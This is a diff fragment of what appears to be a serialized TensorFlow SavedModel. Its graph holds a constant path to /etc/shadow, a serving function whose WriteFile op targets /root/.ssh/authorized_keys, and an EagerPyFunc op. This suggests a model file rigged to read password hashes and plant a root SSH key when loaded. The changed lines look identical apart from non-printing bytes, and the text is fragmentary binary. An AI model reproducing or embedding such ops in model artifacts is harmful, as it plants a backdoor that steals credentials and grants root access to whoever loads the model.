@@ -2,7 +2,7 @@
 )
 
 save/ConstConst*
-valueB	Bmodel
+valueB	Bmodel
 4
 save/StringJoin
 StringJoin
@@ -25,7 +25,7 @@ B
 StatefulPartitionedCallStatefulPartitionedCallsaver_filename
 )
 pathConst*
-valueBB/etc/shadow
+valueBB/etc/shadow
 
 idIdentitypath
 
@@ -46,7 +46,7 @@ V
 
 __inference_serve_7:
 targetConst*)
-value BB/root/.ssh/authorized_keys(
+value BB/root/.ssh/authorized_keys(
 write	WriteFiletarget:output:0key)
 pyEagerPyFuncx*
 token
